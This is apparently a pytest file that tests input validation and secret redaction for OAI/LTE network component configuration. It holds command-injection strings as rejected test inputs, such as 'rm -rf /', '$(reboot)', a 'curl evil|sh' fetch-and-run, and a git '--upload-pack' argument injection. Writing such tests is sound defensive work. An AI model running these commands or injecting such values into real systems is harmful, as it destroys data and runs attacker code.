"""Bad input is refused before anything reaches a script, with a message that never shows a secret."""

import pytest
from charms_helpers import COMPONENTS, LTE_K, LTE_OP, config_for

from vpnaas.core.validation import InvalidValue
from vpnaas.oai import component as oai

BAD_COMMON = [
    ({"realm": "ntnu.no; rm -rf /"}, "realm"),
    ({"realm": "$(reboot)"}, "realm"),
    ({"realm": "NTNU"}, "realm"),
    ({"mcc": "20"}, "mcc"),
    ({"mcc": "2O8"}, "mcc"),
    ({"mnc": "9"}, "mnc"),
    ({"mnc": "95`id`"}, "mnc"),
    ({"tac": 0}, "tac"),
    ({"tac": 70000}, "tac"),
]
BAD_ADDRESS = {
    "hss": [
        ({"s6a-service-addresses": "172.16.6.300/32"}, "s6a-service-addresses"),
        ({"mme-address": "172.16.6.2;id"}, "mme-address"),
    ],
    "mme": [
        ({"hss-address": "hss.ntnu.no"}, "hss-address"),
        ({"sgw-s11-address": "1.2.3"}, "sgw-s11-address"),
        ({"s1c-service-addresses": ""}, "s1c-service-addresses"),
    ],
    "spgwc": [
        ({"ue-ip-pool": "12.1.1.1/24"}, "ue-ip-pool"),
        ({"dns-primary": "8.8.8.8 && x"}, "dns-primary"),
    ],
    "spgwu": [
        ({"sgi-interface": "eth0; reboot"}, "sgi-interface"),
        ({"spgwc-address": "::1"}, "spgwc-address"),
    ],
    "enb": [({"prb": 42}, "prb"), ({"mme-address": "192.168.247.102/24"}, "mme-address")],
}


@pytest.mark.parametrize("override,key", BAD_COMMON)
def test_bad_common_values_are_refused(component_name, override, key):
    with pytest.raises(InvalidValue, match=key):
        COMPONENTS[component_name].config_values(config_for(component_name, **override), None)


@pytest.mark.parametrize(
    "name,override,key", [(n, o, k) for n, cases in sorted(BAD_ADDRESS.items()) for o, k in cases]
)
def test_bad_addresses_are_refused(name, override, key):
    with pytest.raises(InvalidValue, match=key):
        COMPONENTS[name].config_values(config_for(name, **override), None)


@pytest.mark.parametrize("key", ["lte-k", "lte-op"])
@pytest.mark.parametrize(
    "value", ["", "1234", LTE_K + "0", "g" * 32, LTE_K[:31] + "'", LTE_OP.replace("1", " ")]
)
def test_lte_keys_must_be_32_hex_digits_and_never_echoed(key, value):
    with pytest.raises(InvalidValue) as e:
        COMPONENTS["hss"].config_values(config_for("hss", **{key: value}), None)
    assert str(e.value).startswith(key)
    if value:
        assert value not in str(e.value)


def test_imsi_must_match_the_plmn():
    with pytest.raises(InvalidValue, match="imsi-first"):
        COMPONENTS["hss"].config_values(config_for("hss", **{"imsi-first": "001011234500000"}), None)
    with pytest.raises(InvalidValue, match="number-of-users"):
        COMPONENTS["hss"].config_values(
            config_for("hss", **{"imsi-first": "208959999999999", "number-of-users": 10}), None
        )


@pytest.mark.parametrize(
    "override,key",
    [
        ({"oai-repository": "https://x.org/a.git; curl evil|sh"}, "oai-repository"),
        ({"oai-repository": "file:///etc"}, "oai-repository"),
        ({"oai-repository": "--upload-pack=touch /tmp/x"}, "oai-repository"),
        ({"oai-ref": "-x"}, "oai-ref"),
        ({"oai-ref": "v1..2"}, "oai-ref"),
        ({"oai-ref": "main$(id)"}, "oai-ref"),
        ({"oai-install-timeout": 5}, "oai-install-timeout"),
    ],
)
def test_bad_sources_are_refused(component_name, override, key):
    with pytest.raises(InvalidValue, match=key):
        oai.install_plan(COMPONENTS[component_name], config_for(component_name, **override))


def test_redact_removes_every_form_of_a_secret():
    text = "x {} y {} z".format(LTE_K.upper(), LTE_OP)
    assert oai.redact(text, [LTE_K, LTE_OP]) == "x *** y *** z"
